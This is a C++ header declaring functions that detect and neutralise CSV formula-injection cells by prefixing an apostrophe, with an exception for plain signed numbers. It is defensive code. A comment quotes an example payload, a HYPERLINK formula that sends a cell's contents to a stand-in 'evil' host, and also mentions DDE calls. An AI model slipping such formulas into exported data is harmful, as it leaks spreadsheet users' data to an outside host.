#pragma once
// Cells a spreadsheet would run as a formula ("CSV injection"): text exported to CSV that, once
// opened in Excel, LibreOffice or Google Sheets, starts with = + - @ (or a tab or carriage
// return, which some of them strip before looking) would be evaluated, e.g.
// =HYPERLINK("http://evil/?"&A1) or a DDE call. Leading blanks and control characters do not
// help: spreadsheets skip them too. Pure functions; thread-safe.
#include <string>
#include <string_view>

namespace rapport {

// True when `cell` would be read as a formula.
bool is_formula_risk(std::string_view cell) noexcept;

// `cell` made safe to open: a risky cell gets a leading apostrophe ('), which spreadsheets
// read as "this is text" (OWASP's recommendation); others come back unchanged. A plain number
// such as "-12.50" or "+8613800138000" (a signed run of digits with at most one decimal point)
// is left alone: spreadsheets read it as a number, never as a formula, and phone numbers in
// E.164 would otherwise all gain an apostrophe.
std::string neutralize_formula(std::string_view cell);

}  // namespace rapport
